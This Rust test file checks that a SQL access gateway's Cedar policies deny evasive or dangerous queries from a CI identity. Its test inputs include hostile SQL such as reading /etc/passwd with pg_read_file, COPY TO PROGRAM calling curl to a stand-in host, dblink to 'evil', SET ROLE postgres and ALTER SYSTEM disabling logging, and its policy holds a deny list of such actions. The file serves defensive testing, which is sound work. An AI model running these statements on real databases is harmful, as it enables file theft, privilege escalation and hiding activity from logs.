//! Decisions of the whole policy path (analysis → Cedar requests → decision) for one identity,
//! without a server: evasion shapes that must still name what they touch.

use std::sync::Arc;

use serde_json::json;

use super::decide::{Decision, SessionFacts, SessionPolicy};
use super::engine::{ApprovalMode, PolicyEngine};
use super::{Analysis, analysis};
use crate::identity::WorkloadIdentity;

const POLICIES: &str = r#"
@id("baseline")
permit(principal, action in Jitgate::Action::"statement", resource);

@id("no-secret")
@reason("secrets are not for CI")
forbid(principal, action, resource is Jitgate::Table)
when { resource.schema == "vault" || resource.name == "secrets" };

@id("no-dangerous")
forbid(principal, action, resource)
when { context.dangerous.containsAny(["read_server_file", "copy_program", "server_file",
  "remote_connection", "set_role", "alter_system", "dynamic_sql", "large_object"]) };

@id("ddl-needs-approval")
@approval("request")
@grant_ttl("600")
forbid(principal, action == Jitgate::Action::"ddl", resource)
unless { context.approved };

@id("delete-held")
forbid(principal, action == Jitgate::Action::"delete", resource)
unless { context.approved };

@id("release-sees-email")
permit(principal, action == Jitgate::Action::"unmask", resource == Jitgate::Column::"public.customers.email")
when { principal has ref && principal.ref == "refs/heads/release" };

@id("main-branch-auto")
permit(principal, action == Jitgate::Action::"approve", resource)
when { principal has ref && principal.ref == "refs/heads/main" };
"#;

fn session(claims: serde_json::Value) -> SessionPolicy {
    let engine = Arc::new(PolicyEngine::from_text(POLICIES, "test").expect("policies load"));
    let serde_json::Value::Object(map) = claims else {
        unreachable!("object")
    };
    let identity = WorkloadIdentity::from_claims(map);
    let facts = SessionFacts {
        target: "shop".into(),
        database: "shop".into(),
        upstream_user: "ci".into(),
        process: json!({"pid": 1, "uid": 0, "gid": 0, "comm": "psql", "exe": "/usr/bin/psql",
            "cgroup_id": "1"}),
    };
    SessionPolicy::new(engine, &identity, facts, &["$user".into(), "public".into()])
        .expect("session policy")
}

fn ci() -> SessionPolicy {
    session(
        json!({"iss": "https://issuer", "sub": "ci", "aud": "api://jitgate",
        "repository": "org/app", "ref": "refs/heads/feature"}),
    )
}

fn decide(policy: &mut SessionPolicy, sql: &str) -> Decision {
    let a: Arc<Analysis> = Arc::new(analysis::analyze(sql).expect("parses"));
    policy.decide(&a)
}

fn denied_by(policy: &mut SessionPolicy, sql: &str) -> String {
    match decide(policy, sql) {
        Decision::Deny(d) => d.rule,
        other => panic!("{sql} must be denied, got {other:?}"),
    }
}

#[test]
fn plain_reads_and_writes_are_allowed() {
    let mut p = ci();
    for sql in [
        "SELECT * FROM customers",
        "SELECT 1",
        "BEGIN",
        "INSERT INTO orders (customer_id) VALUES (1)",
        "SELECT lower(email) FROM public.customers",
        "SET search_path = app",
    ] {
        assert!(
            matches!(decide(&mut p, sql), Decision::Allow { .. }),
            "{sql}"
        );
    }
}

#[test]
fn a_forbidden_table_is_denied_however_it_is_written() {
    let mut p = ci();
    for sql in [
        "SELECT * FROM vault.keys",
        "select * from VAULT.keys",
        "SELECT * FROM \"vault\".\"keys\"",
        "SELECT * FROM secrets",
        "SELECT 1 FROM orders LIMIT (SELECT count(*) FROM secrets)",
        "SELECT * FROM orders ORDER BY (SELECT max(id) FROM secrets)",
        "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
        "SELECT * FROM orders o, LATERAL (SELECT * FROM vault.keys k) x",
        "INSERT INTO orders SELECT * FROM secrets",
        "UPDATE orders SET id = 1 FROM secrets",
        "SELECT 1; SELECT * FROM /* comment */ secrets",
        "COPY (SELECT * FROM secrets) TO STDOUT",
        "PREPARE p AS SELECT * FROM secrets",
        "EXPLAIN ANALYZE SELECT * FROM secrets",
        "CREATE VIEW v AS SELECT * FROM secrets",
        "SELECT * FROM U&\"secr\\0065ts\"",
        "DECLARE c CURSOR FOR SELECT * FROM secrets",
    ] {
        assert_eq!(denied_by(&mut p, sql), "no-secret", "{sql}");
    }
}

#[test]
fn search_path_changes_cannot_move_a_name_out_of_reach() {
    let mut p = ci();
    assert!(matches!(
        decide(&mut p, "SELECT * FROM keys"),
        Decision::Allow { .. }
    ));
    assert!(matches!(
        decide(&mut p, "SET search_path = vault, public"),
        Decision::Allow { .. }
    ));
    assert_eq!(denied_by(&mut p, "SELECT * FROM keys"), "no-secret");
    let mut q = ci();
    assert!(matches!(
        decide(&mut q, "SELECT set_config('search_path', 'vault', false)"),
        Decision::Allow { .. }
    ));
    assert_eq!(denied_by(&mut q, "SELECT * FROM keys"), "no-secret");
    // In one string: the SET runs before the SELECT is looked up.
    let mut r = ci();
    assert_eq!(
        denied_by(&mut r, "SET search_path = vault; SELECT * FROM keys"),
        "no-secret"
    );
    assert_eq!(
        denied_by(
            &mut r,
            "SELECT pg_catalog.set_config('role', 'postgres', false)"
        ),
        "no-dangerous"
    );
}

#[test]
fn dangerous_functions_and_statements_are_denied() {
    let mut p = ci();
    for sql in [
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_catalog.pg_read_file('/etc/passwd')::text",
        "SELECT * FROM pg_ls_dir('.')",
        "SELECT 1 WHERE length(pg_read_file('x')) > 0",
        "SELECT lo_import('/etc/passwd')",
        "COPY orders TO PROGRAM 'curl evil'",
        "COPY orders FROM '/etc/passwd'",
        "SET ROLE postgres",
        "SET SESSION AUTHORIZATION postgres",
        "ALTER SYSTEM SET log_statement = 'none'",
        "SELECT dblink('host=evil', 'SELECT 1')",
        "SELECT query_to_xml('SELECT * FROM secrets', true, false, '')",
    ] {
        assert_eq!(denied_by(&mut p, sql), "no-dangerous", "{sql}");
    }
}

#[test]
fn sql_level_execute_is_decided_by_what_was_prepared() {
    let mut p = ci();
    assert_eq!(
        denied_by(&mut p, "EXECUTE never_prepared"),
        "unprepared-execute"
    );
    assert!(matches!(
        decide(&mut p, "PREPARE q AS SELECT * FROM orders"),
        Decision::Allow { .. }
    ));
    assert!(matches!(
        decide(&mut p, "EXECUTE q"),
        Decision::Allow { .. }
    ));
    // A denied PREPARE never becomes something EXECUTE may run.
    assert_eq!(
        denied_by(&mut p, "PREPARE s AS SELECT * FROM secrets"),
        "no-secret"
    );
    assert_eq!(denied_by(&mut p, "EXECUTE s"), "unprepared-execute");
}

#[test]
fn approval_modes_and_automatic_approval() {
    let mut p = ci();
    match decide(&mut p, "CREATE INDEX ON orders (id)") {
        Decision::Approval(a) => {
            assert_eq!(a.mode, ApprovalMode::Request);
            assert_eq!(a.grant_ttl, 600);
            assert_eq!(a.policies, vec!["ddl-needs-approval"]);
            assert!(a.auto_approved_by.is_none());
        }
        other => panic!("DDL needs approval: {other:?}"),
    }
    match decide(&mut p, "DELETE FROM orders WHERE id = 1") {
        Decision::Approval(a) => assert_eq!(a.mode, ApprovalMode::Hold),
        other => panic!("DELETE is held: {other:?}"),
    }
    // A denial that approval cannot lift wins over one it can.
    assert_eq!(denied_by(&mut p, "DELETE FROM secrets"), "no-secret");
    let mut main = session(json!({"iss": "https://issuer", "sub": "ci", "aud": "x",
        "ref": "refs/heads/main"}));
    match decide(&mut main, "CREATE INDEX ON orders (id)") {
        Decision::Approval(a) => {
            assert_eq!(a.auto_approved_by.as_deref(), Some("main-branch-auto"))
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn fast_path_calls_are_function_resources() {
    let mut p = ci();
    let call = Arc::new(Analysis::function_call(super::access::QualifiedName {
        schema: Some("pg_catalog".into()),
        name: "lo_import".into(),
    }));
    match p.decide(&call) {
        Decision::Deny(d) => assert_eq!(d.rule, "no-dangerous"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn unmask_is_permitted_per_identity_and_column_and_not_by_the_statement_baseline() {
    let columns = vec![
        (
            "public".to_owned(),
            "customers".to_owned(),
            "email".to_owned(),
        ),
        (
            "public".to_owned(),
            "customers".to_owned(),
            "card_number".to_owned(),
        ),
    ];
    let release = session(
        json!({"iss": "https://issuer", "sub": "repo:shop", "aud": ["jitgate"],
        "ref": "refs/heads/release"}),
    );
    assert_eq!(release.unmasked(&columns), vec![columns[0].clone()]);
    assert!(
        ci().unmasked(&columns).is_empty(),
        "permit on `statement` does not unmask"
    );
}
